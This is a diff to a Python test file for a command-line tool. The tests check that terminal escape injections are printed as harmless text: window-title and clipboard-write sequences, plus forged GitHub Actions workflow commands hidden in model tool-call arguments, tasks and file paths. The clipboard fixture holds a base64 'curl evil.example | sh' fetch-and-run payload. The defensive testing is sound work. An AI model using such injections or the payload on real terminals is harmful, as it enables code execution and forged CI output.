@@ -3,8 +3,9 @@ it (a separate process, real git, real pytest, the scripted model over HTTP): a 
 model's tool-call arguments with OSC 0 (window title) and OSC 52 (clipboard write) sequences
 are shown as `[U+001B]...` in the progress lines, piped and under a pseudo-terminal (rich),
 and so are the same sequences in a spec's task (dry-run output) and in a path named in an
-error message. The controls: the raw sequences did reach the tool (the transcript, the
-prompt file), and printed as they are, rich passes them to the terminal."""
+error message; under GitHub Actions no line of that output can be a workflow command. The
+controls: the raw sequences did reach the tool (the transcript, the prompt file), and printed
+as they are, rich passes them to the terminal."""
 
 from __future__ import annotations
 
@@ -24,6 +25,7 @@ TITLE = "\x1b]0;PWNED-TITLE\x07"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x1b\\"  # "curl evil.example | sh"
 HOSTILE_ARGS = '{"path": "src/semver/version.py", "note": "' + TITLE + CLIPBOARD + '"}'
 SHOWN_TITLE = b"[U+001B]]0;PWNED-TITLE[U+0007]"
+COMMAND = "::warning title=pwned::a forged annotation"  # read by the Actions runner
 
 
 def cli_env(model: ScriptedModelServer) -> dict[str, str]:
@@ -126,17 +128,23 @@ def test_dry_run_output_and_error_messages_show_them_as_text(
 ) -> None:
     out = sample_repo.tmp / "out"
     if where == "dry-run output":
-        spec = sample_repo.write_spec(task=f"Reset the patch {TITLE}{CLIPBOARD} in bump_minor.")
+        task = f"Reset the patch {TITLE}{CLIPBOARD} in bump_minor.\n{COMMAND}"
+        spec = sample_repo.write_spec(task=task)
         args = ["run", str(spec), "--dry-run", "--repo", str(sample_repo.path),
                 "--output-dir", str(out)]  # fmt: skip
     else:
         args = ["run", str(sample_repo.tmp / f"spec{TITLE}.yaml"), "--repo", str(sample_repo.path)]
 
-    result = run_piped(args, cli_env(model_server), sample_repo.tmp)
+    env = {**cli_env(model_server), "GITHUB_ACTIONS": "true"}  # as in a nightly workflow
+    result = run_piped(args, env, sample_repo.tmp)
 
     printed = result.stdout + result.stderr
     assert result.returncode in (0, 1, 2), printed.decode()
     assert b"\x1b" not in printed and b"\x07" not in printed
     assert SHOWN_TITLE in printed
+    # no line of the output is a workflow command for the Actions runner
+    assert not [line for line in printed.splitlines() if line.lstrip().startswith(b"::")]
     if where == "dry-run output":  # control: the prompt file has the sequences as they are
-        assert TITLE in (out / "first-prompt.md").read_text()
+        prompt = (out / "first-prompt.md").read_text()
+        assert TITLE in prompt and f"\n{COMMAND}" in prompt
+        assert b"[U+003A]:warning title=pwned::" in result.stdout
